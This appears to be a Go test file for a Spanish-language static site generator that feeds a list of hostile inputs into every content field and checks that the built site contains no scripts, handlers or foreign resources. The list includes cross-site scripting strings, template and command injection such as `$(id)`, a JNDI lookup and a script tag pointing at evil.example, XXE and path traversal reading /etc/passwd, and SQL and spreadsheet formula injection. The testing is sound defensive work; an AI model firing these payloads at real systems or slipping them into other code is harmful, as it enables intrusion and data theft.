package build

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"testing/fstest"

	"vitrina/internal/check"
	"vitrina/internal/race"
	"vitrina/internal/site"
)

// payloads are texts that have broken other programs: scripts, template and
// shell syntax, encodings, directions, lengths.
var payloads = []string{
	`<script>alert(1)</script>`,
	`"><img src=x onerror=alert(1)>`,
	`'><svg/onload=alert(1)>`,
	`</title><script src=//evil.example/x.js></script>`,
	`</script><script>alert(1)</script>`,
	`javascript:alert(1)`, `JaVaScRiPt&colon;alert(1)`, `data:text/html;base64,PHNjcmlwdD4=`, "java\tscript:alert(1)",
	`{{.}} {{template "x"}} {{printf "%s" .}}`, `{% include "/etc/passwd" %}`, `${jndi:ldap://evil.example/a}`, "`id`", `$(id)`,
	`<!--#exec cmd="id"-->`, `<?php system("id"); ?>`, `<![CDATA[<script>alert(1)</script>]]>`, `<!ENTITY x SYSTEM "file:///etc/passwd">`,
	`../../../../etc/passwd`, `file:///etc/passwd`, `\\evil\share`, `//evil.example`,
	`]]>`, `-->`, `\u003cscript\u003e`, `&lt;script&gt;`, `&#60;script&#62;`, `%3Cscript%3E`,
	"ＳＣＲＩＰＴ", "ſcript", "a\u0301\u0301\u0301\u0301\u0301", "👩‍👩‍👧‍👦 🇵🇪", "ﷺ", "İıſK", "ñ n\u0303",
	`=1+1`, `@SUM(1)`, `'; DROP TABLE practicas; --`, `" OR 1=1`,
	strings.Repeat("a", 5000), strings.Repeat("<", 500), strings.Repeat("[", 500), strings.Repeat("*_`", 300),
	"NULL", "null", "true", "NaN", "undefined", "0x10", "1e309", "-0", "૧૨૩",
	"[x](javascript:alert(1))", "![x](http://evil.example/x.png)", "<http://evil.example>", "<javascript:alert(1)>",
	"[x]: javascript:alert(1)", "[x](<javascript:alert(1)>)", "[x](&#106;avascript:alert(1))", "[x](//evil.example)",
}

// TestHostileTextInEveryKey puts each payload in every text of every kind of
// entry. Whatever is admitted must come out as text: the finished site has no
// script, handler, foreign resource or broken markup. Whatever is refused is
// refused with a message.
func TestHostileTextInEveryKey(t *testing.T) {
	for i, payload := range payloads {
		if i%race.Slow != 0 {
			continue
		}
		quoted, err := json.Marshal(payload)
		if err != nil {
			t.Fatal(err)
		}
		q := string(quoted) // JSON strings are YAML strings
		source := fstest.MapFS{}
		put := func(name, format string, args ...any) {
			source["content/"+name] = &fstest.MapFile{Data: fmt.Appendf(nil, format, args...), Mode: 0o644}
		}
		put("sitio.yaml", "titulo: %[1]s\nurl: https://prueba.example/\ndescripcion: %[1]s\norganizacion: %[1]s\nmenu: [{titulo: %[1]s, url: /practicas/}]\n", q)
		put("ediciones/2025.md", "---\nnumero: 8\nnombre: %[1]s\nanio_inicio: 2025\nnorma_bases: %[1]s\ncategorias: [%[1]s]\nfuentes: [{titulo: %[1]s}]\n---\n%[2]s\n", q, payload)
		put("temas/agua.md", "---\nnombre: %[1]s\ndescripcion: %[1]s\n---\n%[2]s\n", q, payload)
		put("metas/m.md", "---\nnombre: %[1]s\ndescripcion: %[1]s\nambito: local\n---\n", q)
		put("enlaces/02.md", "---\ndepartamento: \"02\"\noficina: %[1]s\ntelefono: %[1]s\ndireccion: %[1]s\nhorario: %[1]s\nsesiones: [{fecha: 2026-12-01, titulo: %[1]s, modalidad: virtual, lugar: %[1]s, material: %[1]s}]\nejemplo: true\nactualizada: 2026-01-01\n---\n", q)
		put("paginas/uso.md", "---\ntitulo: %[1]s\nresumen: %[1]s\n---\n%[2]s\n", q, payload)
		put("municipalidades/029901.md", "---\nubigeo: \"029901\"\nnombre: %[1]s\ntipo: distrital\ndepartamento: Áncash\nprovincia: %[1]s\nejemplo: true\nreconocimientos: [{edicion: 2025, fuente: %[1]s}]\n---\n%[2]s\n", q, payload)
		put("practicas/p.md", `---
titulo: %[1]s
resumen: %[1]s
municipalidad: "029901"
edicion: 2025
reconocimiento: ganadora
temas: [agua]
metas: [m]
resultados: [{indicador: %[1]s, antes: %[1]s, despues: 1, unidad: %[1]s, periodo: %[1]s, fuente: %[1]s}]
costo: {monto: 1, periodo: %[1]s, nota: %[1]s}
equipo: {personas: 1, perfiles: [%[1]s]}
aliados: [{nombre: %[1]s, tipo: %[1]s}]
adaptar: [%[1]s]
replicas: [{municipalidad: "029901", cambio: %[1]s, fuente: %[1]s}]
contacto: {area: %[1]s, telefono: %[1]s, horario: %[1]s}
fuentes: [{titulo: %[1]s}]
estado: publicada
actualizada: 2026-10-01
ejemplo: true
---
## Situación previa

%[2]s

## Qué se hizo

- %[2]s

| %[2]s |
| --- |
| %[2]s |
`, q, payload)
		out, result := outputOf(t, source, site.Options{Now: day})
		for _, p := range result.Problems {
			if p.Text == "" || strings.Contains(p.Text, "yaml:") || strings.Contains(p.Text, "goroutine") {
				t.Errorf("payload %d: message %v", i, p)
			}
		}
		files := fstest.MapFS{}
		for name, data := range out {
			files[name] = &fstest.MapFile{Data: data}
		}
		problems, err := check.Site(t.Context(), files, check.Options{BaseURL: result.Site.BaseURL})
		if err != nil {
			t.Fatal(err)
		}
		for _, p := range problems {
			if len(result.Problems) == 0 || unsafe(p.Text) {
				t.Errorf("payload %d %.40q: %v", i, payload, p)
			}
		}
	}
}

// unsafe says whether a finding of check is one that no content may cause.
func unsafe(text string) bool {
	for _, word := range []string{"script", "atributo", "otro sitio", "http:", "iframe", "javascript", "data:", "estilo"} {
		if strings.Contains(text, word) {
			return true
		}
	}
	return false
}
